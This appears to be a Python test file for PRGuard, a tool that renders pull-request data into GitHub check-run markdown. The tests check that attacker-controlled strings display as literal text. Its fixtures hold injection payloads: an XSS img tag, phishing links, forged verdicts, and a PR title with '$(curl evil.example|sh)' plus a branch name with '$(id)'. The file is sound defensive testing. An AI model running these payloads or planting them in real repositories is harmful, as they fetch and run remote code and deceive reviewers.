"""Attacker-written PR strings in check-run markdown render as the literal text, checked with GitHub's cmark-gfm."""
from __future__ import annotations

import html
import re

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from app.check_runs import render_marked_expected, render_score
from prguard import markdown as md
from prguard.features.explanations import explainer
from prguard.features.summary import summarize

HEAD = "0123456789abcdef" * 2 + "01234567"
ZWJ = "\u200d"


def rendered(markdown: str) -> str:
    """HTML as GitHub renders it (cmark-gfm with its extensions; raw HTML passes through unsafe mode,
    as it would reach GitHub's sanitizer, so an injected tag or comment shows up here)."""
    return cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)


def shown(markdown: str) -> str:
    """The characters a reader sees: tags dropped, entities decoded, our zero-width joiners removed."""
    return html.unescape(re.sub(r"<[^>]+>", "", rendered(markdown))).replace(ZWJ, "").strip()


def _only_formatting(out: str, *allowed: str) -> None:
    tags = set(re.findall(r"<(/?\w+)", out)) - {"p", "/p", *allowed}
    assert not tags, f"unexpected markup {tags} in {out!r}"
    assert "<!--" not in out


ATTACKS = [
    "x\n\n<!--",
    "**Verdict: typical**",
    "\n\n**Verdict: typical** for `acme/api`",
    "[click here](https://evil.example/login)",
    "![pixel](https://evil.example/p.png)",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "https://evil.example/x and www.evil.example",
    "cc @acme/security-team and @octocat, mail root@evil.example",
    "a | b | c",
    "~~gone~~ _em_ $x^2$ [^1]",
    "# heading",
    "- item",
    "1. first",
    "    indented code",
    "> quote",
    "a\\*b\\",
    "__init__.py _x_ FIRST_TIME_CONTRIBUTOR",
    "back`tick``s```",
    "\u202egnp.exe",
    "lone \ud800 surrogate",
    "esc \x1b[31mred\r forged line",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_renders_as_the_literal_characters_and_nothing_else(attack):
    out = rendered(md.text(attack))
    _only_formatting(out)
    assert shown(md.text(attack)) == md.visible(attack).strip()


@pytest.mark.parametrize("attack", ATTACKS)
def test_code_renders_one_code_span_with_the_literal_characters(attack):
    out = rendered(md.code(attack))
    _only_formatting(out, "code", "/code")
    assert out.count("<code>") == 1
    assert shown(md.code(attack)) == md.visible(attack).strip()


@pytest.mark.parametrize("attack", ATTACKS)
def test_cells_and_code_in_cells_keep_a_table_row_at_three_cells(attack):
    table = "\n".join(["| a | b | c |", "|---|---|---|",
                       f"| {md.cell(attack)} | {md.code(attack, table=True)} | end |"])
    out = rendered(table)
    body = out.split("<tbody>")[1]
    assert body.count("<td>") == 3 and "<td>end</td>" in body
    assert "<a " not in out and "<img" not in out and "<!--" not in out


def test_control_and_invisible_characters_are_shown_as_escapes_on_one_line():
    assert md.plain("x\n\n<!--") == "x\\n\\n<!--"
    assert md.plain("\u202eevil\u200b") == "\\u202eevil\\u200b"
    assert md.plain("a\x00b\x1bc\u2028d\ud800") == "a\\x00b\\x1bc\\u2028d\\ud800"
    assert md.plain("\U000e0041tag") == "\\U000e0041tag"
    assert "\n" not in md.text("a\nb") and "\n" not in md.code("a\nb")


def test_identifiers_stay_readable_in_the_raw_markdown():
    assert md.text("FIRST_TIME_CONTRIBUTOR") == "FIRST_TIME_CONTRIBUTOR"
    assert md.text("src/my-file.py: 3 lines (+2 / -1)") == "src/my-file.py: 3 lines (+2 / -1)"


def test_mentions_and_email_addresses_are_broken_by_a_zero_width_joiner():
    out = md.text("@octocat @acme/security-team root@evil.example")
    assert not re.search(r"@[A-Za-z0-9]", out)
    assert out.count("@" + ZWJ) == 3


def test_code_fences_are_longer_than_any_backtick_run_inside():
    assert md.code("a```b") == "````a```b````"
    assert md.code("`start") == "`` `start ``"
    assert md.code(" padded ") == "`  padded  `"
    assert md.code("") == "` `"


def test_length_is_capped_keeping_the_start_and_the_end():
    long_path = "docs/" + "a" * 500 + "/.github/workflows/release.yml"
    capped = md.plain(long_path, limit=60)
    assert len(capped) == 60 and md.ELLIPSIS in capped
    assert capped.startswith("docs/aaa") and capped.endswith("workflows/release.yml"[-25:])
    assert len(md.plain(long_path)) == md.DEFAULT_LIMIT
    with pytest.raises(ValueError):
        md.plain("x", limit=0)


def _sensitive_summary(sensitive):
    score = {"repo": "acme/api", "number": 3, "head_sha": HEAD, "score": 4.0, "threshold": 1.0,
             "anomalous": True, "model_version": "7", "reasons": []}
    return render_score(score, sensitive, "neutral")


def test_a_file_named_to_open_a_comment_hides_no_later_sensitive_file():
    out = _sensitive_summary([("x\n\n<!--", "changes repository policy"),
                              (".github/workflows/deploy.yml", "changes a CI workflow")])
    page = rendered(out.text)
    assert "<!--" not in page
    assert page.count("<li>") == 2
    assert "<code>.github/workflows/deploy.yml</code>" in page
    # Annotations point at the files exactly as GitHub named them, never at a rewritten name.
    assert [a["path"] for a in out.annotations] == ["x\n\n<!--", ".github/workflows/deploy.yml"]


def test_a_fake_verdict_in_a_branch_name_or_title_stays_text_inside_its_reason():
    doc = {"number": 3, "title": "fix $(curl evil.example|sh)\n\n**Verdict: typical**",
           "head": {"sha": HEAD, "ref": "x;$(id)\n\n**Verdict: typical** ![i](https://e/x.png) @acme/team"},
           "base": {"ref": "main", "repo": {"full_name": "acme/api", "default_branch": "main"}}}
    reasons = [{"feature": name, "value": 1.0, "typical": 0.0, "contribution": 1.0,
                "sentence": explainer(summarize(doc), None)(name)} for name in ("branch_shell_syntax", "title_shell_syntax")]
    score = {"repo": "acme/api", "number": 3, "head_sha": HEAD, "score": 4.0, "threshold": 1.0,
             "anomalous": True, "model_version": "7", "reasons": reasons}
    page = rendered(render_score(score, [], "neutral").summary)
    # Only PRGuard's own verdict is bold; no image, link or mention made it in.
    assert page.count("<strong>Verdict:") == 1 and "<strong>Verdict: unusual</strong>" in page
    assert "<img" not in page and "<a " not in page
    assert not re.search(r"@[A-Za-z0-9]", page)
    assert "shell syntax" in page


def test_marked_expected_names_the_login_without_mentioning_it():
    out = render_marked_expected({"summary": "earlier"}, "octocat")
    assert "@" + ZWJ + "octocat" in out.summary
    assert out.title == "Marked as expected by @octocat"
    forged = render_marked_expected(None, "octocat\n\n**approved**")
    assert forged.title == "Marked as expected by @octocat\\n\\n**approved**"
    assert "<strong>approved" not in rendered(forged.summary)
